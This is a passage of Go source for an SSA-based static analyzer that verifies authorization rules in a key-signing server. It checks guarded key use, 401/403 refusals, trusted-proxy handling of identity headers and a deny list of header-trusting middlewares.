	c.Check(n == 1, ra, "authmodel.Middleware forward-count", p.Pos(mw.Pos()), "", fmt.Sprintf("%d forwarding calls to next.ServeHTTP, expected 1", n))
	// RequestInfo reads the same context key that Middleware writes
	ri := p.Func("internal/authmodel.RequestInfo")
	if ri == nil {
		c.Undecided(ra, "authmodel.RequestInfo", "-", "function not found")
		return
	}
	keyOf := func(fn *ssa.Function, callee string, argIdx int) string {
		for _, f := range withClosures(fn) {
			for _, ci := range p.callsIn(f, callee) {
				a := ci.Common().Args
				if argIdx < len(a) {
					return p.memKey(stripConv(a[argIdx])) + short(stripConv(a[argIdx]).String(), 60)
				}
			}
		}
		return ""
	}
	w := keyOf(mw, "context.WithValue", 1)
	r := keyOf(ri, "(context.Context).Value", 0)
	c.Check(w != "" && w == r, ra, "authmodel context-key agreement", p.Pos(ri.Pos()), "RequestInfo reads the key Middleware writes", fmt.Sprintf("RequestInfo reads context key %q but Middleware writes %q", r, w))
}

// keyUseSink classifies an instruction as a use of token/key material.
func (p *Prog) keyUseSink(in ssa.Instruction) string {
	switch x := in.(type) {
	case *ssa.Lookup:
		if p.memKey(x.X) == "f:server.Server.tokens" {
			return "s.tokens[...]"
		}
	case *ssa.Range:
		if p.memKey(x.X) == "f:server.Server.tokens" {
			return "range s.tokens"
		}
	case ssa.CallInstruction:
		switch n := p.calleeName(x.Common()); n {
		case "internal/signinit.Init", "internal/signinit.InitKey", "(token.Token).GetKey", "(token.Key).SignContext", "(crypto.Signer).Sign", "(token.Key).Certificate",
			"lib/certloader.LoadTokenCertificates":
			return n
		}
		// calls through Signer.Sign
		if _, f, _ := p.fieldLoad(x.Common().Value); f == "Sign" && !x.Common().IsInvoke() && x.Common().StaticCallee() == nil {
			return "mod.Sign"
		}
	}
	return ""
}

func c04KeyUse(c *Ctx, rb, rc string, handlers []*ssa.Function) {
	p := c.P
	if len(handlers) == 0 {
		c.Undecided(rb, "authenticated handlers", "-", "no authenticated handler resolved")
		return
	}
	// functions of package server that (transitively, same package) contain a sink
	serverFns := []*ssa.Function{}
	for _, fn := range p.Funcs {
		if pk := pkgOf(fn); pk != nil && p.Rel(pk.Path()) == "server" {
			serverFns = append(serverFns, fn)
		}
	}
	hasSink := map[*ssa.Function]bool{}
	for _, fn := range serverFns {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				if p.keyUseSink(in) != "" {
					hasSink[fn] = true
				}
			}
		}
	}
	for changed, iter := true, 0; changed && iter < 4; iter++ {
		changed = false
		for _, fn := range serverFns {
			if hasSink[fn] {
				continue
			}
			for _, b := range fn.Blocks {
				for _, in := range b.Instrs {
					if ci, ok := in.(ssa.CallInstruction); ok {
						if sc := ci.Common().StaticCallee(); sc != nil && hasSink[sc] {
							hasSink[fn] = true
							changed = true
						}
					}
				}
			}
		}
	}
	isHandler := map[*ssa.Function]bool{}
	for _, h := range handlers {
		isHandler[h] = true
	}
	// background / lifecycle users of the tokens that are not request-driven
	lifecycle := map[string]string{
		"(*server.Server).Close":       "shutdown closes tokens",
		"server.New":                   "start-up opens tokens before serving",
		"(*server.Server).openTokens":  "start-up",
		"(*server.Server).healthCheck": "background ping of every token, no key use",
	}
	if po := healthPinger(p); po != nil {
		lifecycle[p.FName(po)] = "background ping"
	}
	nSinks := 0
	for _, fn := range serverFns {
		if !hasSink[fn] {
			continue
		}
		fname := p.FName(fn)
		if why, ok := lifecycle[fname]; ok {
			c.PassTrivial(rb, fname+" lifecycle", p.Pos(fn.Pos()), "token use outside request handling: "+why)
			continue
		}
		if !isHandler[fn] {
			// helper: every caller must be a handler (checked there) or another helper
			callers := 0
			for _, g := range p.Funcs {
				for _, b := range g.Blocks {
					for _, in := range b.Instrs {
						if ci, ok := in.(ssa.CallInstruction); ok && ci.Common().StaticCallee() == fn {
							callers++
							if pk := pkgOf(g); pk == nil || p.Rel(pk.Path()) != "server" {
								c.Fail(rb, fname+" external caller "+p.FName(g), p.Pos(ci.Pos()), "a key-using helper of package server is called from outside the guarded handlers")
							}
						}
					}
				}
			}
			// function values (handlers registered by value) are resolved via routes; a helper
			// with no static caller that is not a handler is a new, unguarded entry point
			if callers == 0 && fn.Parent() == nil {
				c.Fail(rb, fname+" unreferenced key user", p.Pos(fn.Pos()), "function uses token/key material but is neither an authenticated handler nor called from one")
			}
			continue
		}
		c.Analysed(fname)
		// guards in this handler
		var getKeyCall ssa.CallInstruction
		base := func(f *ssa.Function) Guard {
			g1 := p.callGuard("GetKey err==nil", []string{"(*config.Config).GetKey"}, 1, IsNil, nil)
			return g1
		}
		g1 := p.errNilWrapperGuard("Config.GetKey err==nil", base, 2)(fn)
		for _, ci := range p.callsIn(fn, "(*config.Config).GetKey") {
			getKeyCall = ci
		}
		allowedBase := func(f *ssa.Function) Guard {
			return p.callGuard("Allowed()==true", []string{"(internal/authmodel.UserInfo).Allowed"}, -1, IsTrue, func(ci ssa.CallInstruction) bool {
				if f != fn || getKeyCall == nil {
					return true // inside a wrapper the value relation is checked at the wrapper's call site below
				}
				a, idx := resultOf(ci.Common().Args[0])
				return a == getKeyCall && idx == 0
			})
		}
		g2 := p.errNilWrapperGuard("UserInfo.Allowed(keyConf)==true", allowedBase, 2)(fn)
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				what := p.keyUseSink(in)
				if what == "" {
					if ci, ok := in.(ssa.CallInstruction); ok {
						if sc := ci.Common().StaticCallee(); sc != nil && hasSink[sc] && !isHandler[sc] {
							what = "call " + p.FName(sc)
						}
					}
				}
				if what == "" {
					continue
				}
				n++
				nSinks++
				key := fmt.Sprintf("%s sink#%d %s", fname, n, what)
				missing, path := p.unguardedFromEntry(fn, in, g1, g2)
				c.Check(len(missing) == 0, rb, key, p.Pos(in.Pos()), "guarded by GetKey err==nil and Allowed(keyConf)==true", fmt.Sprintf("token/key material is used without %v on some path", missing), path...)
			}
		}
		if n == 0 {
			continue
		}
		// value relations: the token and key actually used are the authorized ones
		if getKeyCall == nil {
			c.Undecided(rb, fname+" GetKey call", p.Pos(fn.Pos()), "handler uses keys but never calls Config.GetKey directly; value relations cannot be established")
			continue
		}
		gk := getKeyCall.(*ssa.Call)
		fromKeyConf := func(v ssa.Value) bool {
			return dependsOn(v, func(x ssa.Value) bool {
				a, idx := resultOf(x)
				return a == gk && idx == 0
			})
		}
		keyNameArg := gk.Call.Args[1]
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				switch x := in.(type) {
				case *ssa.Lookup:
					if p.memKey(x.X) == "f:server.Server.tokens" {
						c.Check(fromKeyConf(x.Index), rb, fname+" token-of-authorized-key", p.Pos(x.Pos()), "token looked up by keyConf.Token of the authorized key", "the token is not selected from the authorized key's configuration")
					}
				case ssa.CallInstruction:
					switch p.calleeName(x.Common()) {
					case "internal/signinit.Init":
						a := actualOfType(x, "string")
						c.Check(a != nil && (a == keyNameArg || fromKeyConf(a)), rb, fname+" Init key-name", p.Pos(x.Pos()), "signinit.Init receives the key name that was authorized", "signinit.Init is called with a different key name than the one that was authorized")
					case "internal/signinit.InitKey":
						a := x.Common().Args[2]
						c.Check(a == keyNameArg || fromKeyConf(a), rb, fname+" InitKey key-name", p.Pos(x.Pos()), "InitKey receives the authorized key's name", "InitKey is called with a different key name than the one that was authorized")
					}
					// helper receiving keyConf
					if sc := x.Common().StaticCallee(); sc != nil && hasSink[sc] && !isHandler[sc] {
						okArg := false
						for _, a := range x.Common().Args {
							if fromKeyConf(a) || a == keyNameArg {
								okArg = true
							}
						}
						c.Check(okArg, rb, fname+" helper "+p.FName(sc)+" receives authorized key", p.Pos(x.Pos()), "helper is given the authorized keyConf", "key-using helper is not given the authorized key configuration")
					}
				}
			}
		}
		// R04h: nothing about the key is disclosed, and the request does not succeed, unless authorized
		rwSet := map[ssa.Value]bool{}
		for _, par := range fn.Params {
			if typeName(p, par.Type()) == "net/http.ResponseWriter" {
				as, _ := aliasesOf(par)
				for k := range as {
					rwSet[k] = true
				}
			}
		}
		nr2 := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				if _, isRet := in.(*ssa.Return); isRet || !usesValue(in, rwSet) {
					continue
				}
				if _, isDbg := in.(*ssa.DebugRef); isDbg {
					continue
				}
				if !reachableAfter(fn, gk, in, nil, nil) {
					continue
				}
				nr2++
				what := "response use"
				if ci, ok := in.(ssa.CallInstruction); ok {
					what = p.describeCall(ci)
				}
				missing, path := p.unguardedFromEntry(fn, in, g1, g2)
				c.Check(len(missing) == 0, "R04h", fmt.Sprintf("%s response#%d %s", fname, nr2, what), p.Pos(in.Pos()), "response written only for an authorized caller", fmt.Sprintf("a response about the key can be written without %v (e.g. served from a cache filled by an entitled caller)", missing), path...)
			}
		}
		for i, r := range p.successReturns(fn) {
			missing, path := p.unguardedFromEntry(fn, r, g1, g2)
			c.Check(len(missing) == 0, "R04h", fmt.Sprintf("%s success-return#%d", fname, i+1), p.Pos(r.Pos()), "handler succeeds only for an authorized caller", fmt.Sprintf("the handler can complete successfully without %v", missing), path...)
		}
		// R04c: refusal values on the failing sides
		failG := Guard{Match: func(f Fact) bool {
			call, idx := resultOf(f.V)
			if call == nil {
				return false
			}
			switch p.calleeName(call.Common()) {
			case "(*config.Config).GetKey":
				return idx == 1 && f.Kind == NonNil
			case "(internal/authmodel.UserInfo).Allowed":
				return f.Kind == IsFalse
			}
			return false
		}}
		var starts []*ssa.BasicBlock
		for e := range passEdges(fn, failG) {
			starts = append(starts, fn.Blocks[e.from].Succs[e.succ])
		}
		// exclude everything behind the pass edges
		delPass := map[edge]bool{}
		for e := range passEdges(fn, g1) {
			delPass[e] = true
		}
		for e := range passEdges(fn, g2) {
			delPass[e] = true
		}
		seen := reach(fn, starts, delPass, nil)
		nr := 0
		for _, r := range returnsOf(fn) {
			if !seen[r.Block().Index] {
				continue
			}
			nr++
			ev := retVal(r, errResultIndex(fn.Signature))
			st, name := p.problemStatusOf(ev)
			c.Check(st == 401 || st == 403, rc, fmt.Sprintf("%s refusal#%d", fname, nr), p.Pos(r.Pos()), fmt.Sprintf("refused with %s (HTTP %d)", name, st), fmt.Sprintf("unauthorized request is not refused with 401/403 (returns %s, status %d)", name, st))
		}
		c.Check(nr > 0, rc, fname+" has refusal", p.Pos(fn.Pos()), "", "no refusal return found on the failing side of the authorization guards")
	}
	c.Check(nSinks >= 4, rb, "key-use sinks found", "-", fmt.Sprintf("%d", nSinks), fmt.Sprintf("only %d token/key uses found in authenticated handlers (expected at least 4)", nSinks))
}

// problemStatusOf evaluates the HTTP status of an httperror value: a package-level
// *Problem (status from its initialiser) or a Problem literal / constructor call.
func (p *Prog) problemStatusOf(v ssa.Value) (int64, string) {
	v = stripConv(v)
	if l, ok := v.(*ssa.UnOp); ok && l.Op == token.MUL {
		if g, ok := l.X.(*ssa.Global); ok {
			return p.globalProblemStatus(g), g.Name()
		}
	}
	if call, ok := v.(*ssa.Call); ok {
		if f := call.Call.StaticCallee(); f != nil && f.Blocks != nil {
			// constructor: Status field of the returned literal
			for _, b := range f.Blocks {
				for _, in := range b.Instrs {
					if st, ok := in.(*ssa.Store); ok {
						if _, fld, _ := p.fieldAddr(st.Addr); fld == "Status" {
							if k, ok := constInt(st.Val); ok {
								return k, p.FName(f)
							}
							// status passed as parameter
							for i, par := range f.Params {
								if st.Val == par && i < len(call.Call.Args) {
									if k, ok := constInt(call.Call.Args[i]); ok {
										return k, p.FName(f)
									}
									return -1, p.FName(f) + "(dynamic status)"
								}
							}
						}
					}
				}
			}
			return 0, p.FName(f)
		}
	}
	return 0, short(v.String(), 40)
}

func (p *Prog) globalProblemStatus(g *ssa.Global) int64 {
	if g.Pkg == nil {
		return 0
	}
	init := g.Pkg.Func("init")
	if init == nil {
		return 0
	}
	for _, b := range init.Blocks {
		for _, in := range b.Instrs {
			st, ok := in.(*ssa.Store)
			if !ok || st.Addr != g {
				continue
			}
			// value is an Alloc whose Status field is stored
			var status int64
			dependsOn(st.Val, func(x ssa.Value) bool { return false })
			if a, ok := st.Val.(*ssa.Alloc); ok {
				for _, r := range *a.Referrers() {
					if fa, ok := r.(*ssa.FieldAddr); ok {
						if _, fld, _ := p.fieldAddr(fa); fld == "Status" {
							for _, r2 := range *fa.Referrers() {
								if s2, ok := r2.(*ssa.Store); ok {
									if k, ok := constInt(s2.Val); ok {
										status = k
									}
								}
							}
						}
					}
				}
			}
			return status
		}
	}
	return 0
}

func c04Identity(c *Ctx, rd string) {
	p := c.P
	trusted := p.callGuard("requestTrusted()==true", []string{"internal/realip.requestTrusted"}, -1, IsTrue, nil)
	untrusted := p.callGuard("requestTrusted()==false", []string{"internal/realip.requestTrusted"}, -1, IsFalse, nil)
	hop := p.callGuard("hopTrusted(direct peer)==true", []string{"internal/realip.hopTrusted"}, -1, IsTrue, func(ci ssa.CallInstruction) bool {
		return dependsOn(ci.Common().Args[1], func(x ssa.Value) bool {
			_, f, _ := p.fieldLoad(x)
			return f == "RemoteAddr"
		})
	})
	nHdr := 0
	for _, fn := range p.Funcs {
		pkgRel := ""
		if pk := pkgOf(fn); pk != nil {
			pkgRel = p.Rel(pk.Path())
		}
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				// header reads with a constant identity-bearing key
				var hdrKey string
				switch x := in.(type) {
				case ssa.CallInstruction:
					nm := p.calleeName(x.Common())
					if nm == "(net/http.Header).Get" || nm == "(net/http.Header).Values" {
						if s, ok := constString(x.Common().Args[1]); ok {
							hdrKey = s
						}
					}
					if nm == "(net/textproto.MIMEHeader).Get" || nm == "(net/textproto.MIMEHeader).Values" {
						if s, ok := constString(x.Common().Args[1]); ok {
							hdrKey = s
						}
					}
				case *ssa.Lookup:
					if typeName(p, x.X.Type()) == "net/http.Header" {
						if s, ok := constString(x.Index); ok {
							hdrKey = s
						}
					}
				}
				if hdrKey != "" && identityHeader.MatchString(hdrKey) {
					n++
					nHdr++
					key := fmt.Sprintf("%s reads header %s#%d", p.FName(fn), hdrKey, n)
					if pkgRel != "internal/realip" {
						c.Fail(rd, key, p.Pos(in.Pos()), "identity-bearing proxy header read outside internal/realip: an untrusted peer can influence the caller's identity or recorded address")
						continue
					}
					g := Guard{Name: "trusted proxy", Match: func(f Fact) bool { return trusted.Match(f) || hop.Match(f) }}
					missing, path := p.unguardedFromEntry(fn, in, g)
					c.Check(len(missing) == 0, rd, key, p.Pos(in.Pos()), "read only when the direct peer is a trusted proxy", "proxy header is honoured although the direct peer was not checked against the trusted-proxy list", path...)
				}
				// TLS peer certificates
				if _, f, _ := p.fieldLoad(valueOf(in)); f == "PeerCertificates" {
					if t, _, _ := p.fieldLoad(valueOf(in)); t == "crypto/tls.ConnectionState" {
						key := fmt.Sprintf("%s reads TLS.PeerCertificates", p.FName(fn))
						if pkgRel != "internal/realip" {
							if p.serverSide(pkgRel) {
								c.Fail(rd, key, p.Pos(in.Pos()), "TLS peer certificates read outside internal/realip (bypasses the trusted-proxy decision)")
							}
							continue
						}
						missing, path := p.unguardedFromEntry(fn, in, untrusted)
						c.Check(len(missing) == 0, rd, key, p.Pos(in.Pos()), "direct TLS identity used only when the peer is not a trusted proxy", "direct TLS identity is used although the request came through a trusted proxy", path...)
					}
				}
				// RemoteAddr assignment
				if st, ok := in.(*ssa.Store); ok {
					if t, f, _ := p.fieldAddr(st.Addr); t == "net/http.Request" && f == "RemoteAddr" {
						key := fmt.Sprintf("%s assigns Request.RemoteAddr", p.FName(p.Outer(fn)))
						c.Check(p.FName(p.Outer(fn)) == "internal/realip.Middleware", rd, key, p.Pos(st.Pos()), "only realip.Middleware rewrites RemoteAddr", "Request.RemoteAddr is rewritten outside realip.Middleware")
						if p.FName(p.Outer(fn)) == "internal/realip.Middleware" {
							okSrc := dependsOn(st.Val, func(x ssa.Value) bool {
								call, _ := resultOf(x)
								return call != nil && p.calleeName(call.Common()) == "internal/realip.trustedClient"
							})
							c.Check(okSrc, rd, key+" source", p.Pos(st.Pos()), "value comes from trustedClient()", "RemoteAddr is not taken from trustedClient()")
						}
					}
				}
				// trusted marker
				if ci, ok := in.(ssa.CallInstruction); ok && p.calleeName(ci.Common()) == "context.WithValue" {
					if p.memKey(stripConv(ci.Common().Args[1])) == "g:internal/realip.ctxKeyTrusted" {
						key := fmt.Sprintf("%s sets trusted marker", p.FName(p.Outer(fn)))
						prox := Guard{Name: "proxied==true", Match: func(f Fact) bool {
							call, idx := resultOf(f.V)
							return f.Kind == IsTrue && call != nil && idx == 1 && p.calleeName(call.Common()) == "internal/realip.trustedClient"
						}}
						missing, path := p.unguardedFromEntry(fn, ci, prox)
						c.Check(len(missing) == 0 && p.FName(p.Outer(fn)) == "internal/realip.Middleware", rd, key, p.Pos(ci.Pos()), "marker set only when trustedClient reported a trusted proxy", "the trusted-proxy marker is set without trustedClient having reported a trusted proxy", path...)
					}
				}
			}
		}
	}
	c.Check(nHdr >= 4, rd, "identity header reads found", "-", fmt.Sprintf("%d", nHdr), fmt.Sprintf("only %d reads of identity-bearing headers found (expected 4 in internal/realip)", nHdr))
	// dependencies are not descended into, so the middlewares of the HTTP libraries in the module
	// graph that rewrite RemoteAddr from client-supplied headers are named here: installing one of
	// them hands the recorded address back to whoever sends the request
	headerTrusting := map[string]string{
		"github.com/go-chi/chi/v5/middleware.RealIP": "sets RemoteAddr from True-Client-IP / X-Real-IP / X-Forwarded-For of any peer",
		"github.com/go-chi/chi/middleware.RealIP":    "sets RemoteAddr from X-Real-IP / X-Forwarded-For of any peer",
		"github.com/gorilla/handlers.ProxyHeaders":   "sets RemoteAddr, scheme and host from X-Forwarded-* of any peer",
	}
	nDeny := 0
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				for _, op := range in.Operands(nil) {
					if op == nil || *op == nil {
						continue
					}
					f, ok := (*op).(*ssa.Function)
					if !ok || f.Pkg == nil {
						continue
					}
					name := f.Pkg.Pkg.Path() + "." + f.Name()
					if why, bad := headerTrusting[name]; bad {
						nDeny++
						c.Fail(rd, fmt.Sprintf("%s installs %s#%d", p.FName(fn), name, nDeny), p.Pos(in.Pos()), name+" "+why+": it runs after realip.Middleware decided whether the peer is a trusted proxy, so an untrusted client chooses the address that the access log and the audit record show")
					}
				}
			}
		}
	}
	c.PassTrivial(rd, "no header-trusting middleware of a dependency is installed", "-", fmt.Sprintf("%d names on the list, %d references", len(headerTrusting), nDeny))
	// trustedClient: (x, true) only behind hopTrusted(direct peer)
	if tc := p.Func("internal/realip.trustedClient"); tc == nil {
		c.Undecided(rd, "realip.trustedClient", "-", "function not found")
	} else {
		c.Analysed(p.FName(tc))
		n := 0
		for _, r := range returnsOf(tc) {
			if b, ok := boolConst(retVal(r, 1)); ok && !b {
				continue
			}
			n++
			missing, path := p.unguardedFromEntry(tc, r, hop)
			c.Check(len(missing) == 0, rd, fmt.Sprintf("internal/realip.trustedClient proxied-return#%d", n), p.Pos(r.Pos()), "reports proxied only when the direct peer is trusted", "trustedClient reports a trusted proxy without checking the direct peer", path...)
		}
		// hopTrusted: true only from Contains or the unix-socket marker
		if ht := p.Func("internal/realip.hopTrusted"); ht != nil {
			contains := p.callGuard("IPNet.Contains==true", []string{"(*net.IPNet).Contains"}, -1, IsTrue, nil)
			unix := Guard{Name: `addr=="@"`, Match: func(f Fact) bool {
				bo, ok := f.V.(*ssa.BinOp)
				if !ok || bo.Op != token.EQL || f.Kind != IsTrue {
					return false
				}
				s, ok := constString(bo.Y)
				return ok && s == "@"
			}}
			g := Guard{Name: "in a trusted network", Match: func(f Fact) bool { return contains.Match(f) || unix.Match(f) }}
			for i, r := range returnsOf(ht) {
				if b, ok := boolConst(retVal(r, 0)); ok && !b {
					continue
				}
				missing, path := p.unguardedFromEntry(ht, r, g)
				if pred := containsPredicate(retVal(r, 0)); len(missing) > 0 && pred != nil {
					// slices.ContainsFunc(nets, pred): true exactly when pred is true for some network
					missing, path = nil, nil
					for _, pr := range returnsOf(pred) {
						m, _ := p.trueReturnMissing(pred, pr, 0, g)
						missing = append(missing, m...)
					}
				}
				c.Check(len(missing) == 0, rd, fmt.Sprintf("internal/realip.hopTrusted true-return#%d", i+1), p.Pos(r.Pos()), "true only for an address inside a configured network", "hopTrusted can return true for an address outside every configured network", path...)
			}
		}
	}
}

func (p *Prog) serverSide(pkgRel string) bool {
	return strings.HasPrefix(pkgRel, "server") || strings.HasPrefix(pkgRel, "internal/")
}

func valueOf(in ssa.Instruction) ssa.Value {
	v, _ := in.(ssa.Value)
	return v
}

func c04Listing(c *Ctx, rf string) {
	p := c.P
	fn := p.Func("server.(*Server).serveListKeys")
	if fn == nil {
		c.Undecided(rf, "(*Server).serveListKeys", "-", "function not found")
		return
	}
	c.Analysed(p.FName(fn))
	allowed := p.callGuard("Allowed(resolved)==true", []string{"(internal/authmodel.UserInfo).Allowed"}, -1, IsTrue, nil)
	notHidden := Guard{Name: "Hide==false", Match: func(f Fact) bool {
		_, fld, _ := p.fieldLoad(f.V)
		return f.Kind == IsFalse && fld == "Hide"
	}}
	n := 0
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			call, ok := in.(*ssa.Call)
			if !ok {
				continue
			}
			bi, ok := call.Call.Value.(*ssa.Builtin)
			if !ok || bi.Name() != "append" {
				continue
			}
			n++
			missing, path := p.unguardedFromEntry(fn, call, allowed, notHidden)
			// the Allowed argument is the alias-resolved entry: depends on a second lookup of Config.Keys or the range value
			c.Check(len(missing) == 0, rf, fmt.Sprintf("(*server.Server).serveListKeys append#%d", n), p.Pos(call.Pos()), "name listed only if not hidden and Allowed", fmt.Sprintf("a key name is listed without %v", missing), path...)
			// both Hide tests present: at least two distinct Hide loads guard the append
			hideEdges := passEdges(fn, notHidden)
			c.Check(len(hideEdges) >= 2, rf, "(*server.Server).serveListKeys hide-both", p.Pos(call.Pos()), "Hide checked on the entry and on the resolved alias", "Hide is not checked on both the entry and its alias target")
		}
	}
	c.Check(n == 1, rf, "(*server.Server).serveListKeys append-count", p.Pos(fn.Pos()), "", fmt.Sprintf("%d appends to the key list, expected 1", n))
}

func c04Authenticators(c *Ctx, rg, rc string) {
	p := c.P
	iface := p.ifaceNamed("internal/authmodel", "Authenticator")
	if iface == nil {
		c.Undecided(rg, "authmodel.Authenticator", "-", "interface not found")
		return
	}
	impls := p.implementersOf(iface)
	sort.Slice(impls, func(i, j int) bool { return impls[i].String() < impls[j].String() })
	for _, t := range impls {
		fn := p.methodOf(t, "Authenticate")
		if fn == nil {
			continue
		}
		c.Analysed(p.FName(fn))
		fname := p.FName(fn)
		var guards []Guard
		switch fname {
		case "(*internal/authmodel.CertificateAuth).Authenticate":
			guards = []Guard{
				p.callGuard("PeerCertificates err==nil", []string{"internal/realip.PeerCertificates"}, 1, IsNil, nil),
				{Name: "client != nil", Match: func(f Fact) bool {
					if f.Kind != NonNil {
						return false
					}
					return typeName(p, f.V.Type()) == "*config.ClientConfig"
				}},
				{Name: "len(peerCerts) != 0", Match: func(f Fact) bool {
					bo, ok := f.V.(*ssa.BinOp)
					if !ok || !isIntConst(bo.Y, 0) {
						return false
					}
					return (bo.Op == token.EQL && f.Kind == IsFalse) || (bo.Op == token.NEQ && f.Kind == IsTrue) || (bo.Op == token.GTR && f.Kind == IsTrue)
				}},
			}
		case "(*internal/authmodel.PolicyAuth).Authenticate":
			guards = []Guard{
				p.callGuard("evaluate err==nil", []string{"(*internal/authmodel.PolicyAuth).evaluate"}, 1, IsNil, nil),
				p.callGuard("PeerCertificates err==nil", []string{"internal/realip.PeerCertificates"}, 1, IsNil, nil),
				{Name: "result.Allow==true", Match: func(f Fact) bool {
					_, fld, _ := p.fieldLoad(f.V)
					return f.Kind == IsTrue && fld == "Allow"
				}},
			}
		default:
			c.Undecided(rg, fname, p.Pos(fn.Pos()), "new Authenticator implementation: add its acceptance conditions to the rule table")
			continue
		}
		n := 0
		for _, r := range p.successReturns(fn) {
			n++
			missing, path := p.unguardedFromEntry(fn, r, guards...)
			c.Check(len(missing) == 0, rg, fmt.Sprintf("%s success-return#%d", fname, n), p.Pos(r.Pos()), "identity accepted only after every acceptance condition", fmt.Sprintf("a caller is authenticated without %v", missing), path...)
			// a success return carries a non-nil UserInfo
			c.Check(!isNilConst(retVal(r, 0)), rg, fmt.Sprintf("%s success-return#%d userinfo", fname, n), p.Pos(r.Pos()), "", "success return with nil UserInfo")
		}
		c.Check(n > 0, rg, fname+" has success return", p.Pos(fn.Pos()), "", "no success return")
		// named refusals
		nref := 0
		for _, r := range returnsOf(fn) {
			ev := retVal(r, 1)
			if isNilConst(ev) {
				continue
			}
			st, name := p.problemStatusOf(ev)
			if st == 0 {
				continue // propagated lower-level error
			}
			nref++
			okSt := st == 401 || st == 403
			if st == -1 {
				// dynamic status: argument must be a phi of 401/403
				okSt = true
				if call, ok := stripConv(ev).(*ssa.Call); ok {
					for _, lf := range phiLeaves(call.Call.Args[0], nil, map[*ssa.Phi]bool{}) {
						if k, ok := constInt(lf.V); !ok || (k != 401 && k != 403) {
							okSt = false
						}
					}
				}
			}
			c.Check(okSt, rc, fmt.Sprintf("%s refusal %s", fname, name), p.Pos(r.Pos()), fmt.Sprintf("status %d", st), fmt.Sprintf("authentication refusal %s has status %d, not 401/403", name, st))
		}
		_ = nref
	}
	// roles come from the recognised client
	if ca := p.Func("internal/authmodel.(*CertificateAuth).Authenticate"); ca != nil {
		ok := false
		for _, b := range ca.Blocks {
			for _, in := range b.Instrs {
				if st, ok2 := in.(*ssa.Store); ok2 {
					if t, f, _ := p.fieldAddr(st.Addr); t == "internal/authmodel.CertificateInfo" && f == "Roles" {
						if t2, f2, _ := p.fieldLoad(st.Val); t2 == "config.ClientConfig" && f2 == "Roles" {
							ok = true
						}
					}
				}
			}
		}
		c.Check(ok, rg, "(*internal/authmodel.CertificateAuth).Authenticate roles-from-client", p.Pos(ca.Pos()), "CertificateInfo.Roles = client.Roles", "the authenticated user's roles are not those of the recognised client entry")
		// a CA-matched client requires Match()==true
		match := p.callGuard("Match()==true", []string{"(*config.ClientConfig).Match"}, 0, IsTrue, nil)
		n, nOther := 0, 0
		for _, b := range ca.Blocks {
			for _, in := range b.Instrs {
				ph, ok := in.(*ssa.Phi)
				if !ok || typeName(p, ph.Type()) != "*config.ClientConfig" {
					continue
				}
				for _, lf := range phiLeaves(ph, nil, map[*ssa.Phi]bool{}) {
					// leaves that are range values (Extract of Next) must be guarded by Match
					if ex, ok := lf.V.(*ssa.Extract); ok {
						if _, isNext := ex.Tuple.(*ssa.Next); isNext {
							n++
							c.Check(!leafUnguarded(ca, lf, match), rg, fmt.Sprintf("(*internal/authmodel.CertificateAuth).Authenticate CA-client#%d", n), p.Pos(ph.Pos()), "client selected by CA only when Match() returned true", "a client entry is selected by iteration without its Match() having succeeded")
							continue
						}
					}
					// every other source of the client entry: nil, or a lookup in the configured table
					if isNilConst(lf.V) {
						continue
					}
					fromConfig := false
					switch x := lf.V.(type) {
					case *ssa.Lookup:
						_, f, _ := p.fieldLoad(x.X)
						fromConfig = f == "Clients"
					case *ssa.Extract:
						if lk, ok := x.Tuple.(*ssa.Lookup); ok {
							_, f, _ := p.fieldLoad(lk.X)
							fromConfig = f == "Clients"
						}
					}
					nOther++
					c.Check(fromConfig, rg, fmt.Sprintf("(*internal/authmodel.CertificateAuth).Authenticate client source#%d", nOther), p.Pos(ph.Pos()), "looked up in Config.Clients", "the client entry a caller is recognised as comes from somewhere other than the configured table or a Match() of the presented chain in this very request ("+describeVal(p, lf.V)+"): a verdict remembered from an earlier request is keyed by less than the chain that earned it, so another certificate with the same key (self-signed, expired, from an unknown CA) is given the roles of the CA entry")
				}
			}
		}
	}
	// Allowed implementations: true only from an equality
	ui := p.ifaceNamed("internal/authmodel", "UserInfo")
	if ui == nil {
		c.Undecided(rg, "authmodel.UserInfo", "-", "interface not found")
		return
	}
	for _, t := range p.implementersOf(ui) {
		fn := p.methodOf(t, "Allowed")
		if fn == nil {
			continue
		}
		c.Analysed(p.FName(fn))
		eq := Guard{Name: "role/key equality", Match: func(f Fact) bool {
			// membership through the standard library: slices.Contains(list, value) == true
			if call, ok := f.V.(*ssa.Call); ok && f.Kind == IsTrue {
				if sc := call.Common().StaticCallee(); sc != nil && strings.HasPrefix(sc.String(), "slices.Contains") && len(call.Common().Args) == 2 {
					a0, a1 := call.Common().Args[0], call.Common().Args[1]
					fk := func(v ssa.Value) bool { return dependsOn(v, func(x ssa.Value) bool { return x == fn.Params[1] }) }
					fu := func(v ssa.Value) bool { return dependsOn(v, func(x ssa.Value) bool { return x == fn.Params[0] }) }
					return (fk(a0) && fu(a1)) || (fk(a1) && fu(a0))
				}
			}
			bo, ok := f.V.(*ssa.BinOp)
			if !ok {
				return false
			}
			if !((bo.Op == token.EQL && f.Kind == IsTrue) || (bo.Op == token.NEQ && f.Kind == IsFalse)) {
				return false
			}
			// one side from the key configuration, the other from the user's info
			fromKey := func(v ssa.Value) bool {
				return dependsOn(v, func(x ssa.Value) bool {
					if x == fn.Params[1] {
						return true
					}
					return false
				})
			}
			fromUser := func(v ssa.Value) bool {
				return dependsOn(v, func(x ssa.Value) bool { return x == fn.Params[0] })
			}
			return (fromKey(bo.X) && fromUser(bo.Y)) || (fromKey(bo.Y) && fromUser(bo.X))
		}}
		n := 0
		for _, r := range returnsOf(fn) {
			if b, ok := boolConst(retVal(r, 0)); ok && !b {
				continue
			}
			n++
			missing, path := p.unguardedFromEntry(fn, r, eq)
			c.Check(len(missing) == 0, rg, fmt.Sprintf("%s true-return#%d", p.FName(fn), n), p.Pos(r.Pos()), "true only when a key role/name equals one of the caller's", "Allowed can return true without any role or key-name match", path...)
		}
		c.Check(n > 0, rg, p.FName(fn)+" can allow", p.Pos(fn.Pos()), "", "Allowed never returns true")
	}
}

// ------------------------------------------------------------------------------ R04i

